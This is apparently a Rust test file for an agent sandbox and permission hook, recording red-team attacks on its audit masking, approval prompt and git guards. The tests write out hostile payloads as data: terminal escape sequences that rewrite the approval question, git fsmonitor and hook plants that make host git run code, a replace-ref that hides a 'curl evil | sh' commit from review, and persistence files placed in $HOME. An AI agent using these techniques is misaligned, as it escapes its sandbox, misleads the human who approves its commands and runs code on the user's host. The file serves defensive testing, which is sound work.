//! Issue 12, red team round 6: attacks on the audit trail's masking of
//! passwords on command lines (class 8). Each fails with "gate bypassed:
//! …" when a secret reaches the trail, and comes with a control that the
//! rest of each command line stays readable.

#![allow(
    clippy::too_many_lines,
    reason = "scenario tests: one table of attack forms per test"
)]

use std::path::Path;

use rampart_detect::fake::{Gen, BASE62};

use super::fixture::{World, ALLOW_ALL, BASE_CONFIG};

/// Every byte of every file in the audit directory, plus what `audit
/// export` shows.
fn trail_text(w: &World) -> String {
    let dir = w.base.join("state/rampart");
    let mut all = String::new();
    for e in std::fs::read_dir(Path::new(&dir)).unwrap().flatten() {
        if e.file_type().is_ok_and(|t| t.is_file()) {
            all.push_str(&String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()));
        }
    }
    all.push_str(&String::from_utf8_lossy(&w.run(["audit", "export"]).stdout));
    all
}

/// Masking by role was done for the option right after the program and
/// for a shell's own `-c` script only. An attacker (or a careless agent)
/// writes the same secret in a cluster of short flags (`curl -su`,
/// `mysql -vpPW`, `curl -sH 'X-Api-Key: …'`), behind a wrapper that takes
/// a script (`nice sh -c '…'`, `env -S '…'`, `ssh host '…'`, and the
/// same inside a Bash tool script), as a `NAME=value` behind an option
/// prefix or in a list (`-Djavax.net.ssl.keyStorePassword=`,
/// `--db-password=`, `-o user=u,password=`, a URL's `?api_key=`, a
/// connection string), as the next word of an option named for a
/// secret (`--client-secret PW`, `keytool -storepass PW`), or inside the
/// string literals of inline code, which the decision's reasons quote.
#[test]
fn passwords_hidden_in_clusters_wrappers_and_option_names_never_reach_the_trail() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    let mut g = Gen::seeded();
    let mut secrets: Vec<String> = Vec::new();
    let mut pw = || {
        let s = format!("q{}", g.pick(BASE62, 9));
        secrets.push(s.clone());
        s
    };
    let url = "http://127.0.0.1:9/";
    let forms: Vec<Vec<String>> = vec![
        vec![
            "curl".into(),
            "-su".into(),
            format!("me:{}", pw()),
            url.into(),
        ],
        vec!["curl".into(), format!("-sSu{}:{}", "me", pw()), url.into()],
        vec![
            "curl".into(),
            "-sH".into(),
            format!("X-Api-Key: {}", pw()),
            url.into(),
        ],
        vec!["mysql".into(), "-uroot".into(), format!("-vp{}", pw())],
        vec![
            "nice".into(),
            "sh".into(),
            "-c".into(),
            format!("mysql -p{} db", pw()),
        ],
        vec!["env".into(), "-S".into(), format!("mysql -p{} db", pw())],
        vec![
            "ssh".into(),
            "127.0.0.1".into(),
            format!("mysql -p{} db", pw()),
        ],
        vec![
            "bash".into(),
            "-c".into(),
            format!("nice sh -c 'curl -su u:{} {url}'; true", pw()),
        ],
        vec!["psql".into(), format!("host=127.0.0.1 password={}", pw())],
        vec![
            "java".into(),
            format!("-Djavax.net.ssl.keyStorePassword={}", pw()),
            "-version".into(),
        ],
        vec!["some-tool".into(), format!("--db-password={}", pw())],
        vec![
            "mount".into(),
            "-o".into(),
            format!("user=u,password={}", pw()),
            "a".into(),
            "b".into(),
        ],
        vec!["curl".into(), format!("{url}x?api_key={}&page=2", pw())],
        vec!["some-tool".into(), "--client-secret".into(), pw()],
        vec!["keytool".into(), "-list".into(), "-storepass".into(), pw()],
        vec!["zip".into(), "-P".into(), pw(), "a.zip".into(), "f".into()],
        // Inline code passing a command line to the shell: the decision's
        // reasons quote that command line too.
        vec![
            "python3".into(),
            "-c".into(),
            format!("import os; os.system(\"curl -u u:{} {url} | sh\")", pw()),
        ],
    ];
    for argv in &forms {
        let mut a: Vec<String> = vec!["exec".into(), "--".into()];
        a.extend(argv.iter().cloned());
        w.run(&a);
    }
    // The Bash tool's script goes through the hook.
    let hook_pw = pw();
    let input = serde_json::json!({
        "session_id": "s", "cwd": w.ws, "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": format!("sudo sh -c 'mysql -p{hook_pw} db'")},
    });
    w.run_with_stdin(["hook", "claude-code"], input.to_string().as_bytes());
    // Controls: the same programs with nothing secret stay readable.
    for argv in [
        &["mysql", "-hproddb", "-uroot", "db"][..],
        &["curl", "-sSLo", "out.html", url],
        &[
            "git",
            "commit",
            "--author",
            "A <a@example.invalid>",
            "-m",
            "fix password handling",
        ],
        &[
            "docker",
            "login",
            "--password-stdin",
            "registry.example.invalid",
        ],
    ] {
        let mut a = vec!["exec", "--"];
        a.extend_from_slice(argv);
        w.run(a);
    }
    let trail = trail_text(&w);
    for (i, s) in secrets.iter().enumerate() {
        assert!(
            !trail.contains(s.as_str()),
            "gate bypassed: the password of form {i} ({:?}) reached the audit trail",
            forms
                .get(i)
                .map_or("the Bash tool's script", |f| f[0].as_str())
        );
    }
    for shown in [
        "mysql -hproddb -uroot db",
        "curl -sSLo out.html",
        "--author 'A <a@example.invalid>' -m 'fix password handling'",
        "--password-stdin registry.example.invalid",
        // What was masked still says what ran.
        "curl -su 'me:***'",
        "sh -c 'mysql -p*** db'",
    ] {
        assert!(
            trail.contains(shown),
            "control failed: `{shown}` is not in the trail as written"
        );
    }
}

/// `rampart exec ARGV` under a terminal (`script(1)`), typing `input`;
/// what the terminal showed. `None` (and a SKIP line) without `script`.
fn on_terminal(w: &World, argv: &[&str], input: &str) -> Option<String> {
    use std::io::Write;
    use std::process::Stdio;
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("SKIP: script(1) is not installed, so no terminal can be simulated");
        return None;
    }
    let line: Vec<String> = std::iter::once(super::fixture::rampart_bin().display().to_string())
        .chain(["exec", "--"].iter().map(|s| (*s).to_owned()))
        .chain(argv.iter().map(|a| rampart_policy::shell::quote(a)))
        .collect();
    let mut c = std::process::Command::new("script");
    c.args(["-qec", &line.join(" "), "/dev/null"]);
    for (k, v) in w.cmd(["x"]).get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    let mut child = c
        .env("NO_COLOR", "1")
        .current_dir(&w.ws)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    Some(String::from_utf8_lossy(&o.stdout).into_owned())
}

/// The approval question on the terminal showed the command's arguments
/// raw: an agent's command `touch pwned #ESC[2K CR ESC[1A ESC[2K echo
/// hello` made the human read "`echo hello` needs approval" and approve
/// something else. The same went for every `error:`/`warning:` line
/// quoting an argument. Arguments are now quoted like a shell would and
/// every control, bidi, zero-width, separator and filler character is
/// shown escaped.
#[test]
fn the_approval_prompt_cannot_be_rewritten_by_the_command_it_asks_about() {
    let w = World::with_config(&format!(
        "{BASE_CONFIG}[[rules]]\ncommand = [\"sh\"]\ndecision = \"ask\"\nreason = \"needs a yes\"\n"
    ));
    let script = "touch pwned #\x1b[2K\r\x1b[1A\x1b[2K\u{2028}\u{3164}echo hello";
    let Some(screen) = on_terminal(&w, &["sh", "-c", script], "n\n") else {
        return;
    };
    for raw in ["\x1b[", "\u{2028}", "\u{3164}"] {
        assert!(
            !screen.contains(raw),
            "gate bypassed: the approval prompt wrote {raw:?} from the command to the terminal: {screen:?}"
        );
    }
    assert!(
        screen.contains("`sh -c 'touch pwned #\\u{1b}[2K\\u{d}"),
        "gate bypassed: the prompt does not show the command as it is: {screen:?}"
    );
    assert!(
        !w.ws.join("pwned").exists(),
        "control failed: `n` must refuse"
    );
    // Control: an ordinary command is asked about as written, and `y` runs it.
    let Some(screen) = on_terminal(&w, &["sh", "-c", "touch made"], "y\n") else {
        return;
    };
    assert!(
        screen.contains("rampart: `sh -c 'touch made'` needs approval"),
        "control failed: {screen:?}"
    );
    assert!(w.ws.join("made").exists(), "control failed: {screen:?}");
}

/// Separators the first round of output masking did not strip: NUL and
/// other C0 controls, DEL, a backspace overstrike (`x BS` shows nothing of
/// `x`), an 8-bit CSI (U+009B), the combining grapheme joiner, Hangul
/// fillers, variation selectors, tag characters, bidi isolates and the
/// line separator. A terminal or a model reads the secret whole through
/// each of them; the masker must too.
#[test]
fn redact_sees_through_controls_overstrikes_and_every_invisible_character() {
    let w = World::new();
    let mut g = Gen::seeded();
    let token = rampart_detect::fake::expand(&mut g, "ghp_{Aa:30}{ghcrc}").unwrap();
    let separators = [
        "\0",
        "\x7f",
        "\x01",
        "x\x08",
        "\u{9b}31m",
        "\u{34f}",
        "\u{3164}",
        "\u{fe0f}",
        "\u{e0020}",
        "\u{2066}",
        "\u{2028}",
        "\u{61c}",
    ];
    for s in separators {
        let hidden = format!("{}{s}{}{s}{}", &token[..6], &token[6..20], &token[20..]);
        let o = w.run_with_stdin(["redact"], format!("token {hidden} end\n").as_bytes());
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(
            !out.contains(&token[6..20]) && out.contains("[REDACTED:"),
            "gate bypassed: `rampart redact` let a secret with {s:?} inside through: {out:?}"
        );
    }
    // Control: text with the same characters and no secret comes back as
    // it was, tabs and all.
    let plain = "a\tb\0c\u{34f}d \u{3164} e\u{fe0f}\n";
    let o = w.run_with_stdin(["redact"], plain.as_bytes());
    assert_eq!(String::from_utf8_lossy(&o.stdout), plain, "control failed");
}

fn git_in(w: &World, dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "init.defaultBranch=main",
            "-c",
            "protocol.file.allow=always",
        ])
        .args(args)
        .current_dir(dir)
        .env("HOME", &w.home)
        .output()
        .unwrap()
}

/// A repository in the workspace with one submodule checked out at `sub`
/// (`sub/.git` a `gitdir:` file into `.git/modules/sub`).
fn with_submodule(w: &World) {
    let src = w.base.join("subsrc");
    std::fs::create_dir_all(&src).unwrap();
    w.git(&src, &["init", "-q"]);
    w.git(&src, &["commit", "-q", "--allow-empty", "-m", "s"]);
    w.git(&w.ws, &["init", "-q"]);
    let o = git_in(
        w,
        &w.ws,
        &["submodule", "add", "-q", &src.display().to_string(), "sub"],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    w.git(&w.ws, &["commit", "-q", "-m", "sub"]);
}

/// Host `git status` at the top of a repository runs git inside every
/// submodule checkout, with that checkout's own config. `sub/.git` and
/// `sub` were ordinary workspace entries: the command replaced the
/// `gitdir:` file with a fresh repository (or moved `sub` away and made a
/// new one) whose config sets `core.fsmonitor`, and the user's next `git
/// status` ran it on the host. A submodule checkout's `.git` is now
/// guarded like the top's (read-only, `sub` pinned).
#[test]
fn a_submodule_checkout_cannot_be_turned_into_code_for_host_git() {
    let w = World::new();
    with_submodule(&w);
    let marker = w.base.join("pwned");
    let plant = format!(
        "git init -q . 2>/dev/null; git config core.fsmonitor 'touch {m}; false' 2>/dev/null",
        m = marker.display()
    );
    for attack in [
        format!("cd sub && rm -f .git; {plant}"),
        format!("mv sub sub.old; mkdir -p sub && cd sub && {plant}"),
    ] {
        let o = w.run(["exec", "--", "sh", "-c", &attack]);
        let _ = git_in(&w, &w.ws, &["status"]);
        assert!(
            !marker.exists(),
            "sandbox breached: host `git status` ran code planted in the submodule checkout by `{attack}` (exit {:?}, stderr `{}`)",
            o.status.code(),
            String::from_utf8_lossy(&o.stderr)
        );
    }
    // Control: the submodule's files are still the workspace's to change.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo changed > sub/file && cat sub/file",
    ]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "changed",
        "control failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// In `allow_git_writes = "commits"` mode the index is writable, so the
/// command can record a new gitlink (`git add sub` of a repository it made
/// in `sub`) whose config sets `core.fsmonitor`; host `git status` at the
/// top then runs it. Not fixed here: the check belongs to the post-run
/// checks of commits mode in `crates/sandbox/src/run.rs` (see
/// `git::new_gitlink_checkouts`), which the lead is changing.
#[test]
fn a_gitlink_added_in_commits_mode_cannot_plant_code_for_host_git() {
    let w = World::with_config(&format!(
        "[sandbox_workspace_write]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\nallow_git_writes = \"commits\"\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"
    ));
    w.git(&w.ws, &["init", "-q"]);
    w.git(&w.ws, &["commit", "-q", "--allow-empty", "-m", "init"]);
    let marker = w.base.join("pwned");
    let attack = format!(
        "mkdir sub && cd sub && git init -q . && git -c user.name=t -c user.email=t@x commit -q --allow-empty -m s && git config core.fsmonitor 'touch {m}; false' && cd .. && git add sub 2>/dev/null",
        m = marker.display()
    );
    let o = w.run(["exec", "--", "sh", "-c", &attack]);
    let _ = git_in(&w, &w.ws, &["status"]);
    assert!(
        !marker.exists(),
        "sandbox breached: host `git status` ran the fsmonitor of a gitlink added in commits mode (exit {:?}, stderr `{}`)",
        o.status.code(),
        String::from_utf8_lossy(&o.stderr)
    );
    // Control: commits still work.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo x > f && git add f && git -c user.name=t -c user.email=t@x commit -qm f",
    ]);
    assert_eq!(o.status.code(), Some(0), "control failed");
}

/// A command run from `dir` plants a hook and an fsmonitor line in
/// `repo`'s git dir; true when either got in.
fn plant_in_repo(
    w: &World,
    dir: &Path,
    repo: &Path,
    marker: &Path,
) -> (bool, std::process::Output) {
    let g = repo.join(".git");
    let script = format!(
        "printf '#!/bin/sh\\ntouch {m}\\n' > '{h}' 2>/dev/null; chmod +x '{h}' 2>/dev/null; git -C '{r}' config core.fsmonitor 'touch {m}' 2>/dev/null; exit 0",
        m = marker.display(),
        h = g.join("hooks/pre-commit").display(),
        r = repo.display()
    );
    let o = w
        .cmd(["exec", "--", "sh", "-c", &script])
        .current_dir(dir)
        .output()
        .unwrap();
    let config = std::fs::read_to_string(g.join("config")).unwrap_or_default();
    (
        g.join("hooks/pre-commit").exists() || config.contains("fsmonitor"),
        o,
    )
}

/// Only the workspace's (and each writable root's) own repository was
/// guarded. A clone beside the workspace in a writable root
/// (`writable_roots = ["~/src"]`, workspace `~/src/app`, clone
/// `~/src/group/other`) or a repository in a subfolder of the workspace
/// had a writable `.git/hooks` and `.git/config`: the user's next `git
/// commit` or `git status` there ran what the command planted. Every
/// repository that exists inside a root when the command starts is now
/// planned like the root's own.
#[test]
fn repositories_beside_the_workspace_in_a_writable_root_keep_their_hooks() {
    let w = World::new();
    let src = w.base.join("src");
    let (app, other, inner) = (
        src.join("app"),
        src.join("group/other"),
        src.join("app/lib/vendored"),
    );
    for r in [&app, &other, &inner] {
        std::fs::create_dir_all(r).unwrap();
        w.git(r, &["init", "-q"]);
    }
    w.set_config(&format!(
        "[sandbox_workspace_write]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\nwritable_roots = [\"{}\"]\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
        src.display()
    ));
    let marker = w.base.join("pwned");
    for repo in [&other, &inner] {
        let (planted, o) = plant_in_repo(&w, &app, repo, &marker);
        assert!(
            !planted,
            "sandbox breached: a command in `{}` planted a hook or fsmonitor in `{}` (exit {:?}, stderr `{}`)",
            app.display(),
            repo.display(),
            o.status.code(),
            String::from_utf8_lossy(&o.stderr)
        );
    }
    // Control: the files of both repositories are still the command's.
    let o = w
        .cmd([
            "exec",
            "--",
            "sh",
            "-c",
            &format!(
                "echo a > '{}/f' && echo b > '{}/f' && echo ok",
                other.display(),
                inner.display()
            ),
        ])
        .current_dir(&app)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "ok",
        "control failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// With the default config `/tmp` is writable, and a clone elsewhere in
/// it (`/tmp/other`, next to a workspace `/tmp/ws`) keeps a writable
/// `.git/hooks`. Not fixed here: `/tmp` and `$TMPDIR` get no git plan in
/// `crates/sandbox/src/run.rs` (the lead's file); calling `git::plan` on
/// them as on `writable_roots` closes it.
#[test]
fn a_repository_elsewhere_in_a_writable_tmp_keeps_its_hooks() {
    let w = World::with_config_under(
        Path::new("/tmp"),
        &format!("[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"),
    );
    let other = w.base.join("other");
    std::fs::create_dir_all(&other).unwrap();
    w.git(&other, &["init", "-q"]);
    w.git(&w.ws, &["init", "-q"]);
    let (planted, o) = plant_in_repo(&w, &w.ws, &other, &w.base.join("pwned"));
    assert!(
        !planted,
        "sandbox breached: a command in `{}` planted a hook or fsmonitor in `{}` under the writable /tmp (exit {:?}, stderr `{}`)",
        w.ws.display(),
        other.display(),
        o.status.code(),
        String::from_utf8_lossy(&o.stderr)
    );
    // Control: the clone's files are still writable.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        &format!("echo a > '{}/f'", other.display()),
    ]);
    assert_eq!(o.status.code(), Some(0), "control failed");
}

/// In `"commits"` mode `refs/` and `packed-refs` are writable, so the
/// command can commit a malicious file and add a replace ref that makes
/// host git show the old, harmless content for it (`git show`, `git
/// diff`, the checked-out file), while `git push` sends the real commit.
/// Not fixed here: the post-run checks of commits mode live in
/// `crates/sandbox/src/run.rs`; `git::replace_refs` lists what to compare.
#[test]
fn a_replace_ref_made_in_commits_mode_cannot_hide_a_commit_from_review() {
    let w = World::with_config(&format!(
        "[sandbox_workspace_write]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\nallow_git_writes = \"commits\"\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"
    ));
    w.git(&w.ws, &["init", "-q"]);
    std::fs::write(w.ws.join("f"), "good\n").unwrap();
    w.git(&w.ws, &["add", "f"]);
    w.git(&w.ws, &["commit", "-q", "-m", "init"]);
    let attack = "echo 'curl evil | sh' > f && git add f && git -c user.name=t -c user.email=t@x commit -qm 'fix typo' && echo \"$(git rev-parse HEAD~1:f) refs/replace/$(git rev-parse HEAD:f)\" >> .git/packed-refs && git checkout -q HEAD~1 -- f && git checkout -q HEAD -- f";
    let o = w.run(["exec", "--", "sh", "-c", attack]);
    let shown = git_in(&w, &w.ws, &["show", "HEAD:f"]);
    let real = git_in(&w, &w.ws, &["--no-replace-objects", "show", "HEAD:f"]);
    assert!(
        shown.stdout == real.stdout,
        "sandbox breached: host git shows `{}` for a commit holding `{}` (exit {:?}, stderr `{}`)",
        String::from_utf8_lossy(&shown.stdout).trim(),
        String::from_utf8_lossy(&real.stdout).trim(),
        o.status.code(),
        String::from_utf8_lossy(&o.stderr)
    );
}

/// With the workspace at `$HOME`, the protected list covered shell rc
/// files and a few tool configs; a command could still create
/// `~/.claude.json` (Claude Code's user MCP servers), shadow `git` in
/// `~/.local/bin`, add a systemd user unit or an autostart entry, or a
/// readline macro, each of which makes a host program run its code later.
#[test]
fn more_home_files_that_run_code_are_protected_when_home_is_the_workspace() {
    let w = World::new();
    super::fixture::make_default_deny_paths(&w.home);
    let bin = w.home.join(".local/bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::write(bin.join("tool"), "#!/bin/sh\necho real\n").unwrap();
    let planted = [
        ".claude.json",
        ".config/systemd/user/evil.service",
        ".config/autostart/evil.desktop",
        ".inputrc",
        ".vimrc",
    ];
    let script = format!(
        "for f in {}; do mkdir -p \"$(dirname \"$f\")\"; echo x > \"$f\"; done; echo evil > .local/bin/tool; echo evil > .local/bin/git; echo notes > notes.txt; exit 0",
        planted.join(" ")
    );
    let o = w
        .cmd(["exec", "--", "sh", "-c", &script])
        .current_dir(&w.home)
        .output()
        .unwrap();
    for f in planted.iter().chain(&[".local/bin/git"]) {
        assert!(
            !w.home.join(f).exists(),
            "sandbox breached: `~/{f}` made by the command is still in place (exit {:?}, stderr `{}`)",
            o.status.code(),
            String::from_utf8_lossy(&o.stderr)
        );
    }
    assert_eq!(
        std::fs::read_to_string(bin.join("tool")).unwrap(),
        "#!/bin/sh\necho real\n",
        "sandbox breached: the command rewrote `~/.local/bin/tool`"
    );
    assert_eq!(
        o.status.code(),
        Some(126),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // Control: ordinary files in `$HOME` are still the command's.
    assert_eq!(
        std::fs::read_to_string(w.home.join("notes.txt")).unwrap_or_default(),
        "notes\n",
        "control failed"
    );
}

/// `.devcontainer/devcontainer.json` was an ordinary workspace file: its
/// `initializeCommand` runs on the host (not in the container) when VS
/// Code or another dev-container client opens the folder. The hook's
/// `Write` and the sandbox now treat it like `.vscode/`.
#[test]
fn a_dev_container_definition_is_an_agent_config_file() {
    let w = World::new();
    let hook = |path: &str| {
        let input = serde_json::json!({
            "session_id": "s", "cwd": w.ws, "hook_event_name": "PreToolUse",
            "tool_name": "Write",
            "tool_input": {"file_path": path, "content": "{\"initializeCommand\": \"touch pwned\"}"},
        });
        super::fixture::hook_answer(
            &w.run_with_stdin(["hook", "claude-code"], input.to_string().as_bytes()),
        )
    };
    for path in [".devcontainer/devcontainer.json", ".devcontainer.json"] {
        let (decision, reason) = hook(path);
        assert!(
            decision == "deny" && reason.contains("initializeCommand"),
            "gate bypassed: a Write to `{path}` got `{decision}`: {reason}"
        );
    }
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "mkdir .devcontainer && echo '{}' > .devcontainer/devcontainer.json; exit 0",
    ]);
    assert!(
        !w.ws.join(".devcontainer/devcontainer.json").exists(),
        "sandbox breached: `.devcontainer/devcontainer.json` made by the command stayed (exit {:?})",
        o.status.code()
    );
    // Control: an ordinary file is still written.
    let (decision, reason) = hook("src/main.rs");
    assert_eq!(decision, "allow", "control failed: {reason}");
}

/// Claude Code shows the hook's reason in the prompt where the user
/// approves an `ask`; the reason quotes the path the agent chose. A file
/// name holding `ESC [2K CR` erased that line and wrote another in its
/// place. The reason now carries every control and invisible character
/// escaped.
#[test]
fn the_hook_reason_cannot_drive_the_terminal_that_shows_it() {
    let w = World::new();
    let path = w.sibling.join("notes\x1b[2K\r\u{202e}txt.md");
    let input = serde_json::json!({
        "session_id": "s", "cwd": w.ws, "hook_event_name": "PreToolUse",
        "tool_name": "Write",
        "tool_input": {"file_path": path, "content": "x"},
    });
    let (decision, reason) = super::fixture::hook_answer(
        &w.run_with_stdin(["hook", "claude-code"], input.to_string().as_bytes()),
    );
    assert_eq!(decision, "ask", "control failed: {reason}");
    assert!(
        !reason.contains(['\x1b', '\r', '\u{202e}']),
        "gate bypassed: the hook's reason carries raw control characters: {reason:?}"
    );
    assert!(
        reason.contains("notes\\u{1b}[2K\\u{d}\\u{202e}txt.md"),
        "gate bypassed: the reason does not name the path as it is: {reason:?}"
    );
}
